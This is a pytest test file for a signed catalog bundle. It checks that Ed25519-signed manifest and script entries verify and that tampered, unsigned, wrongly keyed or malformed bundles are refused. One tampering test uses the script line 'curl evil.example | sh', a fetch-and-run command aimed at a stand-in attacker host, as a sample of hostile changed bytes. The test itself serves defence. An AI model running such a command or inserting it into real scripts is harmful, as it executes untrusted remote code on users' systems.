"""The signed catalog bundle: what signs verifies, and every kind of tampering is refused by
name (unsigned, another key, changed bytes, a manifest that does not parse, a bundle that
names an entry other than its manifest does)."""

from __future__ import annotations

import base64
import dataclasses
import json
import re

import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519

from sonde.catalog.bundle import (
    DOMAIN,
    BundleError,
    CatalogSource,
    SignedEntry,
    decode_bundle,
    encode_bundle,
    key_id,
    load_private_key,
    load_public_key,
    public_key_pem,
    raw_public_key,
    sign_entries,
    signed_message,
    verify_entry,
)
from sonde.catalog.manifest import Risk
from tests.support.catalog_bundles import manifest_text, source

KEY = ed25519.Ed25519PrivateKey.generate()
PUBLIC = KEY.public_key()


def one_entry(**changes: object) -> SignedEntry:
    entry = sign_entries(KEY, [source("flush-dns")]).entries[0]
    return dataclasses.replace(entry, **changes)  # type: ignore[arg-type]


def refusal(entry: SignedEntry, public_key: ed25519.Ed25519PublicKey = PUBLIC) -> str:
    with pytest.raises(BundleError) as refused:
        verify_entry(public_key, entry)
    return str(refused.value)


def test_signed_entries_verify_and_give_their_manifests_back() -> None:
    bundle = sign_entries(
        KEY, [source("restart-cups", risk="medium"), source("flush-dns", "2.1.0")]
    )
    assert [(e.id, e.version) for e in bundle.entries] == [
        ("flush-dns", "2.1.0"),
        ("restart-cups", "1.0.0"),
    ]
    assert bundle.key_id == key_id(PUBLIC) == bundle.entries[0].key_id
    manifests = [verify_entry(PUBLIC, entry) for entry in bundle.entries]
    assert [(m.id, m.risk) for m in manifests] == [
        ("flush-dns", Risk.LOW),
        ("restart-cups", Risk.MEDIUM),
    ]


def test_the_signature_is_over_the_exact_bytes_domain_separated_and_length_prefixed() -> None:
    entry = one_entry()
    PUBLIC.verify(entry.signature, signed_message(entry.manifest, entry.script))
    message = signed_message(b"ab", b"c")
    assert message.startswith(DOMAIN)
    # Moving a byte from the manifest to the script changes what is signed.
    assert signed_message(b"ab", b"c") != signed_message(b"a", b"bc")


def test_the_key_id_is_the_sha256_of_the_raw_public_key() -> None:
    import hashlib

    assert key_id(PUBLIC) == hashlib.sha256(raw_public_key(PUBLIC)).hexdigest()
    assert len(raw_public_key(PUBLIC)) == 32


def test_an_unsigned_entry_is_refused() -> None:
    assert refusal(one_entry(signature=b"")) == "flush-dns 1.0.0: the entry is not signed"


def test_an_entry_signed_by_another_key_is_refused_naming_both_keys() -> None:
    other = ed25519.Ed25519PrivateKey.generate()
    entry = sign_entries(other, [source("flush-dns")]).entries[0]
    message = refusal(entry)
    assert "signed with another key" in message
    assert key_id(other.public_key())[:16] in message
    assert key_id(PUBLIC)[:16] in message


def test_another_keys_signature_under_our_key_id_does_not_verify() -> None:
    other = ed25519.Ed25519PrivateKey.generate()
    forged = sign_entries(other, [source("flush-dns")]).entries[0]
    message = refusal(dataclasses.replace(forged, key_id=key_id(PUBLIC)))
    assert "the signature does not verify" in message


@pytest.mark.parametrize(
    "change",
    [
        {"script": b"#!/bin/sh\ncurl evil.example | sh\n"},
        {"manifest": manifest_text("flush-dns", risk="low").encode() + b"\n"},
    ],
    ids=["script", "manifest"],
)
def test_a_changed_byte_in_the_manifest_or_the_script_is_refused(change: dict[str, bytes]) -> None:
    message = refusal(one_entry(**change))
    assert message.startswith("flush-dns 1.0.0: the signature does not verify")


def test_a_signed_manifest_that_does_not_parse_is_refused() -> None:
    manifest, script = b'id = "flush-dns"\nversion = "1.0.0"\n', b"echo\n"
    entry = SignedEntry(
        "flush-dns", "1.0.0", manifest, script, key_id(PUBLIC),
        KEY.sign(signed_message(manifest, script)),
    )  # fmt: skip
    message = refusal(entry)
    assert message.startswith("flush-dns 1.0.0: its manifest is refused: the manifest lacks")


@pytest.mark.parametrize(
    ("change", "names"),
    [({"id": "clear-temp"}, "clear-temp 1.0.0"), ({"version": "9.9.9"}, "flush-dns 9.9.9")],
)
def test_a_bundle_naming_another_id_or_version_than_its_manifest_is_refused(
    change: dict[str, str], names: str
) -> None:
    message = refusal(one_entry(**change))
    assert message == (
        f"{names}: the bundle names it {names} but its manifest says flush-dns 1.0.0"
    )


def test_signing_refuses_a_bad_manifest_and_an_id_and_version_given_twice() -> None:
    with pytest.raises(BundleError, match="its manifest is refused"):
        sign_entries(KEY, [CatalogSource(b"not = [toml", b"echo\n")])
    with pytest.raises(BundleError, match=re.escape("flush-dns 1.0.0 is given twice")):
        sign_entries(KEY, [source("flush-dns"), source("flush-dns")])
    with pytest.raises(BundleError, match="its script is empty"):
        sign_entries(KEY, [CatalogSource(source("flush-dns").manifest, b"")])


def test_the_json_document_round_trips_byte_for_byte() -> None:
    bundle = sign_entries(KEY, [source("flush-dns"), source("clear-temp")])
    data = encode_bundle(bundle)
    assert decode_bundle(data) == bundle
    document = json.loads(data)
    assert document["format"] == "sonde-catalog-bundle"
    assert document["version"] == 1
    assert base64.b64decode(document["entries"][0]["manifest"]) == bundle.entries[0].manifest


def _document(**changes: object) -> bytes:
    document = json.loads(encode_bundle(sign_entries(KEY, [source("flush-dns")])))
    document.update(changes)
    return json.dumps(document).encode()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"\xff\xfe", "not a catalog bundle: it is not JSON"),
        (b"[]", "its format is not 'sonde-catalog-bundle'"),
        (_document(version=2), "catalog bundle version 2 is not supported"),
        (_document(entries={}), "the bundle's entries must be a list"),
        (_document(entries=[{"id": "x", "version": "1.0.0", "manifest": "%%", "script": ""}]),
         "entry 1 (x 1.0.0): manifest is not valid base64"),
        (_document(entries=[{"id": "x", "version": "1.0.0", "manifest": "", "script": "",
                             "signature": "AAAA"}]),
         "an Ed25519 signature is 64 bytes"),
        (b" " * (4 * 1024 * 1024), "a bundle is at most"),
    ],
    ids=["bytes", "format", "version", "entries", "base64", "signature", "size"],
)  # fmt: skip
def test_a_malformed_bundle_is_refused_saying_what_is_wrong(data: bytes, says: str) -> None:
    with pytest.raises(BundleError) as refused:
        decode_bundle(data)
    assert says in str(refused.value)


def test_an_entry_twice_in_a_bundle_is_refused() -> None:
    document = json.loads(encode_bundle(sign_entries(KEY, [source("flush-dns")])))
    document["entries"] *= 2
    with pytest.raises(BundleError, match=re.escape("flush-dns 1.0.0 is in the bundle twice")):
        decode_bundle(json.dumps(document).encode())


def test_keys_load_from_pem_and_the_wrong_kind_is_refused() -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    pem = KEY.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    assert key_id(load_private_key(pem).public_key()) == key_id(PUBLIC)
    assert key_id(load_public_key(public_key_pem(PUBLIC))) == key_id(PUBLIC)
    ecdsa = ec.generate_private_key(ec.SECP256R1())
    ec_pem = ecdsa.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    with pytest.raises(BundleError, match=re.escape("k.pem is not an Ed25519 private key")):
        load_private_key(ec_pem, "k.pem")
    with pytest.raises(BundleError, match=re.escape("p.pem is not a PEM public key")):
        load_public_key(b"nonsense", "p.pem")
